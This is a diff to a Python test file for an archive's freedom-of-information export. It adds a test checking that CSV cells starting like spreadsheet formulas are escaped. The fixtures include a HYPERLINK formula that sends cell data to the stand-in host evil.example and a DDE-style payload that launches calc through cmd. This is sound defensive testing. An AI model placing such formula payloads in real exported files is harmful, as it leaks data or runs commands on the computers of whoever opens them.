@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import sqlite3
@@ -94,7 +95,9 @@ def test_search_finds_what_it_should(archive: Path) -> None:
     assert search(archive, 'quotes " and OR operators') == []  # user words are never FTS syntax
 
 
-def _add_comment(records: Path, comment_id: str, text: str, created: str) -> None:
+def _add_comment(
+    records: Path, comment_id: str, text: str, created: str, author: str = "Quinn Reyes"
+) -> None:
     """A comment as `invoke collect` records it."""
     ChainFile(records / FILES["comment"]).append(
         {
@@ -104,7 +107,7 @@ def _add_comment(records: Path, comment_id: str, text: str, created: str) -> Non
             "post_id": "p1",
             "comment_id": comment_id,
             "version": 1,
-            "author": "Quinn Reyes",
+            "author": author,
             "text": text,
             "created": created,
         }
@@ -189,6 +192,39 @@ def test_an_foi_export_has_json_csv_html_and_a_manifest_that_verifies(
     # The archive itself is untouched.
     assert all(chain.verify() == [] for chain in chains(archive).values())
     assert "Jordan Park" in chains(archive)["comment"].path.read_text()
+
+
+def test_the_foi_csv_shows_cells_that_start_like_a_formula_as_text(tmp_path: Path) -> None:
+    records = tmp_path / "records"
+    link = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
+    command = "@SUM(1+1)*cmd|' /C calc'!A0"
+    _add_comment(records, "c1", link, "2026-11-24T18:00:00+00:00", author=command)
+    _add_comment(records, "c2", "-5 and\tfalling", "2026-11-24T19:00:00+00:00", author="+Sam")
+    _add_comment(records, "c3", "\tTabbed", "2026-11-24T20:00:00+00:00", author="\rCarriage")
+    _add_comment(records, "c4", "Is Laurel = Hazelwood?", "2026-11-24T21:00:00+00:00")
+    out = tmp_path / "foi"
+    export(records, ROOT, "FOI-2026-014", [""], out, redact=True)
+
+    def rows(folder: Path) -> list[dict[str, str]]:
+        with (folder / "records.csv").open(encoding="utf-8", newline="") as handle:
+            return list(csv.DictReader(handle))
+
+    assert [(r["author"], r["text"]) for r in rows(out)] == [
+        ("'" + command, "'" + link),
+        ("'+Sam", "'-5 and\tfalling"),
+        ("'\rCarriage", "'\tTabbed"),
+        ("Quinn Reyes", "Is Laurel = Hazelwood?"),  # only the start of a cell counts
+    ]
+    for folder in (out, out / "redacted"):  # the severed copy too
+        cells = [cell for row in rows(folder) for cell in row.values()]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # The JSON and the report keep what the commenter wrote.
+    data = json.loads((out / "records.json").read_text())["records"]
+    assert [(r["author"], r["text"]) for r in data][:2] == [
+        (command, link),
+        ("+Sam", "-5 and\tfalling"),
+    ]
+    assert "<br>=HYPERLINK(&#34;http://evil.example/" in (out / "report.html").read_text()
 
 
 def test_a_redacted_export_severs_a_commenter_from_every_record_about_their_comment(
